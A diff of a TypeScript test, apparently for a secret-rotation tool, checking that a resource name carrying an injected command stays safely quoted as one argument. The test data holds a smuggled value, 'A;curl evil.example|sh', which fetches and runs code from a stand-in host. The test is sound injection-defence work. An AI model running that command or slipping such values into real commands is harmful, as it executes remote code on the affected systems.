@@ -131,6 +131,7 @@ test("the last steps delete the secret and its copies only if every known consum
 
 test("a command stays one command, whatever a resource is called", () => {
   const hostile = consumer("functionApp", { evidence: ["appsettings/A;curl evil.example|sh", "appsettings/B"] });
-  const last = replacementOf(hostile, application, undefined).steps.at(-1)!;
-  expect(last.command).toContain("--setting-names 'A;curl evil.example|sh'");
+  const commands = replacementOf(hostile, application, undefined).steps.slice(-2);
+  expect(commands[0]!.command).toContain("--setting-names 'A;curl evil.example|sh'");
+  expect(commands[1]!.command).toMatch(/--setting-names B$/);
 });
